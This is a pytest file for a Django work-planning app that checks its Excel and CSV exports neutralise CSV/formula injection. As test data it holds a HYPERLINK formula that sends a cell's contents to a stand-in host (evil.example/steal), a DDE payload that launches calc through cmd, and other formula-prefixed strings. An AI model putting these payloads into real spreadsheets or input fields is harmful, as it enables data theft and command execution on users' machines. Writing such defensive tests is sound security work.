"""User text in spreadsheets stays text (OWASP CSV injection): a report that reads
`=HYPERLINK(...)` must not become a live formula in the coordinator's Excel."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from core.spreadsheets import csv_safe
from regions.models import Unit
from reporting.documents import bulletin_xlsx
from reporting.services.bulletins import bulletin_create
from tasks_app.models import Task
from tasks_app.services import assignments as svc

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'


def _no_formulas(data: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells if isinstance(c.value, str)]


@pytest.fixture
def poisoned(world):
    """A unit's report, a task's title and a unit's name that each start like a formula."""
    svc.assignment_sign(user=world.czj, assignment_id=world.czj_own.pk)
    svc.report_create(user=world.czj, assignment_id=world.czj_own.pk, text=EVIL, progress=10)
    Task.objects.filter(pk=world.czj_own.task_id).update(title="+1+cmd|' /C calc'!A0")
    Unit.objects.filter(pk=world.fgw_unit.pk).update(short_name="=SUM(A1:A9)")
    Unit.objects.filter(pk=world.county_unit.pk).update(short_name="@SUM(1+1)*cmd")
    return world


def test_ledger_xlsx_writes_report_text_as_text(client, poisoned):
    client.force_login(poisoned.coordinator)
    data = client.get(f"/admin/tasks_app/workplan/{poisoned.plan.pk}/ledger/").content
    values = _no_formulas(data)
    assert EVIL in values and "+1+cmd|' /C calc'!A0" in values


def test_ledger_csv_neutralises_cells_that_start_a_formula(client, poisoned):
    client.force_login(poisoned.coordinator)
    url = f"/admin/tasks_app/workplan/{poisoned.plan.pk}/ledger/?format=csv"
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert "'@SUM(1+1)*cmd" in cells and "'=SUM(A1:A9)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_bulletin_and_assessment_xlsx_write_names_and_titles_as_text(client, poisoned):
    world = poisoned
    from tasks_app.models import Assignment

    Task.objects.filter(pk=world.czj_own.task_id).update(title="=1+2")
    Assignment.objects.filter(task__plan=world.plan).update(due_date=dt.date(2026, 3, 1))
    bulletin = bulletin_create(
        user=world.coordinator, plan=world.plan, start=dt.date(2026, 1, 1), end=dt.date(2026, 6, 30)
    )
    values = _no_formulas(bulletin_xlsx(bulletin))
    assert "=1+2" in values and "=SUM(A1:A9)" in values
    client.force_login(world.coordinator)
    data = client.get("/admin/tasks_app/workplan/assessment/?year=2026&format=xlsx").content
    assert "=SUM(A1:A9)" in _no_formulas(data)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 351", "'+86 351"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("正常文字", "正常文字"),
        (-2, -2),
    ],
)
def test_csv_safe_prefixes_only_text_that_starts_a_formula(value, expected):
    assert csv_safe(value) == expected
